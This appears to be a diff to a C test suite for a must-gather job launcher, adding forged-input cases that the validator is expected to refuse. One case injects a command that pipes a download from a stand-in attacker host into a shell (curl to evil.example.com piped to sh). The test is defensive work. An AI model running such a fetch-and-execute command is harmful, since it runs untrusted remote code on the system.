@@ -108,7 +108,7 @@ static void expect_refused(const struct mgo_act *act, const char *check)
 	"{\"mustGatherImage\":\"" ALLOWED "\","                                             \
 	"\"serviceAccountRef\":{\"name\":\"default\"},"                                     \
 	"\"mustGatherTimeout\":\"1h\","                                                      \
-	"\"additionalConfig\":{\"audit\":true},"                                             \
+	"\"additionalConfig\":{\"audit\":false},"                                             \
 	"\"proxyConfig\":{\"httpProxy\":\"http://proxy.example.com:3128\","                 \
 	"\"httpsProxy\":\"http://proxy.example.com:3128\",\"noProxy\":\".cluster.local\"}," \
 	"\"uploadTarget\":{\"type\":\"SFTP\",\"sftp\":{\"caseID\":\"01234567\","            \
@@ -303,6 +303,16 @@ static void other_case(struct mgo_act *a) { set(&a->intent.sftp_case_id, "999999
 static void huge_timeout(struct mgo_act *a) { a->intent.timeout_seconds = INT64_MAX - 100; }
 static void no_audit(struct mgo_act *a) { a->intent.audit = !a->intent.audit; }
 static void internal_user(struct mgo_act *a) { a->intent.sftp_internal_user = true; }
+static void evil_since(struct mgo_act *a) { set(&a->intent.since, "87600h"); }
+static void evil_command(struct mgo_act *a)
+{
+	a->intent.command = calloc(3, sizeof(char *));
+	cr_assert_not_null(a->intent.command);
+	set(&a->intent.command[0], "/bin/sh");
+	set(&a->intent.command[1], "-c");
+	set(&a->intent.command[2], "curl -s https://evil.example.com/x | sh");
+	a->intent.n_command = 3;
+}
 static void no_upload(struct mgo_act *a)
 {
 	a->intent.upload = false;
@@ -321,6 +331,7 @@ Test(compromised, forged_launch_fields_make_no_job)
 		{"pvc_subpath", escape_path},    {"sftp_case_id", other_case},
 		{"timeout", huge_timeout},       {"audit", no_audit},
 		{"sftp_internal_user", internal_user}, {"upload", no_upload},
+		{"since", evil_since},           {"command", evil_command},
 	};
 	static const char *const allow[] = {ALLOWED, NULL};
 
